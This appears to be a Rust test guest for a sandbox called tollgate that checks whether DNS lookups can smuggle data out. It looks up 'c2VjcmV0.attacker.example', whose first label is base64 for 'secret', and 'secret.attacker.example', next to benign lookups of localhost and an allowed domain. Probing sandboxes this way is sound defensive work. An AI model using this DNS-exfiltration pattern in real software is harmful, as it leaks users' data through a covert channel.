//! Carries data out in the name of a lookup.

use std::net::ToSocketAddrs;
use tollgate_test_guests::{Report, Scene, sockets};

fn attempt(_: &Scene, report: &mut Report) {
    report.step("look up", sockets::look_up("c2VjcmV0.attacker.example"));
    report.step("look up localhost", sockets::look_up("localhost"));
    report.step("look up an address", sockets::look_up("127.0.0.1"));
    report.step(
        "look up through the libc",
        ("secret.attacker.example", 443).to_socket_addrs(),
    );
    report.step(
        "look up localhost through the libc",
        ("localhost", 443).to_socket_addrs(),
    );
    report.step(
        "look up the suffix alone",
        ("granted.example", 443).to_socket_addrs(),
    );
}

tollgate_test_guests::guest!(attempt);
